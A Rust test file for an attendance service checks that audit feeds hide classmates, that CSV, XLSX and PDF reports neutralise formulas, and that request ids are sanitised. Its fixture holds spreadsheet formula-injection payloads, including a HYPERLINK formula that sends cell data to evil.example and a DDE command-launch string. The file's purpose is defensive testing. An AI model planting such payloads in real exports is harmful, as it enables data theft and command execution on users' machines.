//! What a caller may learn (issue 23, items 4 to 6): a student's audit feed names no
//! classmate, report cells cannot run as spreadsheet formulas, and a client's request id
//! is stored only when it is short and plain.

use crate::helpers::{TestApp, expect_json};
use calamine::{Reader, Xlsx};
use reqwest::{Method, StatusCode};
use serde_json::json;
use std::io::Cursor;

#[tokio::test]
async fn a_students_audit_feed_names_no_other_student() {
    let app = TestApp::spawn().await;
    let session = app.course_with_session().await;
    let (_, ada) = app.create_user("ada", "student", Some("S1")).await;
    expect_json(
        app.record(&app.admin, &session, "S2", "present").await,
        StatusCode::CREATED,
    )
    .await;
    // Closing marks S1 and S3 absent in one event that lists them both.
    let closed = app
        .post(
            &format!("/api/sessions/{session}/close"),
            &app.admin,
            json!({}),
        )
        .await;
    expect_json(closed, StatusCode::OK).await;
    // The feed shows committed events once no older transaction is still open.
    let feed = || async {
        let answer = app.get("/api/audit/events?limit=1000", &ada).await;
        expect_json(answer, StatusCode::OK).await
    };
    crate::helpers::wait_until(std::time::Duration::from_secs(30), || async {
        feed().await.to_string().contains("RegisterClosed")
    })
    .await;
    let page = feed().await;
    let events = page["events"].as_array().unwrap();
    assert!(
        events.iter().any(|e| e["event_type"] == "RegisterClosed"),
        "the closing is about S1: {page}"
    );
    for event in events {
        let text = event["data"].to_string();
        for other in ["\"S2\"", "\"S3\""] {
            assert!(
                !text.contains(other),
                "{other} in a student's feed: {event}"
            );
        }
    }
}

/// Cells a spreadsheet would run as a formula.
fn formula_like(cell: &str) -> bool {
    cell.starts_with(['=', '+', '-', '@', '\t', '\r'])
}

async fn hostile_course(app: &TestApp) -> i64 {
    app.create_course("CS101").await;
    let names = [
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
        "+1+1",
        "@SUM(A1:A9)",
        "-2+3",
    ];
    for (i, name) in names.iter().enumerate() {
        let id = format!("S{i}");
        app.create_student(&id, name).await;
        app.enroll("CS101", &id, "2026-09-01").await;
    }
    let session = app
        .schedule("CS101", "=cmd|' /C calc'!A0", "2026-09-07T09:00:00Z")
        .await;
    let body =
        json!({"session_id": session, "student_id": "S0", "status": "present", "remark": "=1+2"});
    expect_json(
        app.post("/api/attendance", &app.admin, body).await,
        StatusCode::CREATED,
    )
    .await;
    app.latest_position().await
}

async fn report(app: &TestApp, format: &str, position: i64) -> Vec<u8> {
    crate::read_side::read(app, "/api/courses/CS101/statistics", &app.admin, position).await;
    let path = format!("/api/reports/course/CS101?format={format}");
    let response = app.get(&path, &app.admin).await;
    assert_eq!(response.status(), StatusCode::OK);
    response.bytes().await.unwrap().to_vec()
}

#[tokio::test]
async fn csv_report_cells_never_start_a_formula_and_numbers_stay_numbers() {
    let app = TestApp::spawn().await;
    let position = hostile_course(&app).await;
    let csv = report(&app, "csv", position).await;
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(&csv[..]);
    let rows: Vec<Vec<String>> = reader
        .records()
        .map(|r| r.unwrap().iter().map(str::to_string).collect())
        .collect();
    for cell in rows.iter().flatten() {
        assert!(!formula_like(cell), "a formula-like cell: {cell:?}");
    }
    let s0 = rows.iter().find(|r| r[0] == "S0").expect("row S0");
    assert_eq!(s0[1], "'=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")");
    // present, late, excused, absent, rate: numbers as they were.
    assert_eq!(s0[3..8], ["1", "0", "0", "0", "100.00"]);
}

#[tokio::test]
async fn xlsx_and_pdf_reports_hold_hostile_text_as_text() {
    let app = TestApp::spawn().await;
    let position = hostile_course(&app).await;
    let xlsx = report(&app, "xlsx", position).await;
    let mut book: Xlsx<_> = calamine::open_workbook_from_rs(Cursor::new(xlsx)).unwrap();
    let formulas = book.worksheet_formula("Course").unwrap();
    assert!(
        formulas.used_cells().all(|(_, _, f)| f.is_empty()),
        "no cell of the XLSX is a formula"
    );
    let pdf = report(&app, "pdf", position).await;
    lopdf::Document::load_mem(&pdf).expect("a PDF");
    let has = |needle: &[u8]| pdf.windows(needle.len()).any(|w| w == needle);
    assert!(
        !has(b"/JavaScript") && !has(b"/Launch") && !has(b"/OpenAction"),
        "the PDF has no action a viewer would run"
    );
}

#[tokio::test]
async fn a_long_or_strange_request_id_is_replaced_before_it_is_stored() {
    let app = TestApp::spawn().await;
    let session = app.course_with_session().await;
    let huge = "x".repeat(10 * 1024);
    let strange = "id with spaces";
    for (student, id) in [
        ("S1", huge.as_str()),
        ("S2", strange),
        ("S3", "client-id-42"),
    ] {
        let body = json!({"session_id": session, "student_id": student, "status": "present"});
        let response = app
            .request(Method::POST, "/api/attendance", Some(&app.admin))
            .header("x-request-id", id)
            .json(&body)
            .send()
            .await
            .unwrap();
        let answered = response
            .headers()
            .get("x-request-id")
            .map(|v| v.as_bytes().len())
            .unwrap_or(0);
        assert!(
            (1..=64).contains(&answered),
            "answered an id of {answered} bytes"
        );
        expect_json(response, StatusCode::CREATED).await;
    }
    let ids: Vec<Option<String>> =
        sqlx::query_scalar("SELECT metadata ->> 'request_id' FROM events")
            .fetch_all(&app.pool)
            .await
            .unwrap();
    for id in ids.iter().flatten() {
        assert!(
            id.len() <= 64 && id.bytes().all(|b| b.is_ascii_graphic()),
            "stored request id of {} bytes",
            id.len()
        );
    }
    assert!(
        ids.iter().flatten().any(|id| id == "client-id-42"),
        "a plain client id is kept"
    );
}
